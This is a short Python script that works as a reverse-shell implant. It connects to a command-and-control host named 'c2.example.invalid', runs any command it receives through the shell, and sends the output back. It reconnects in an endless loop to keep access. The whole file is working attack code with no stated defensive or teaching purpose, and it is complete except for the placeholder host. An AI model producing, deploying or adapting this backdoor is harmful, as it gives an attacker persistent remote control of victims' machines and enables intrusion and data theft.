import os
import socket
import subprocess
import time

HOST, PORT = "c2.example.invalid", 8443


class Agent:
    def __init__(self):
        self.sock = None

    def connect(self):
        self.sock = socket.socket()
        self.sock.connect((HOST, PORT))

    def serve(self):
        while True:
            command = self.sock.recv(4096).decode()
            if command.startswith("cd "):
                os.chdir(command[3:])
                continue
            done = subprocess.run(command, shell=True, capture_output=True)
            self.sock.sendall(done.stdout + done.stderr)


while True:
    try:
        agent = Agent()
        agent.connect()
        agent.serve()
    except OSError:
        time.sleep(5)
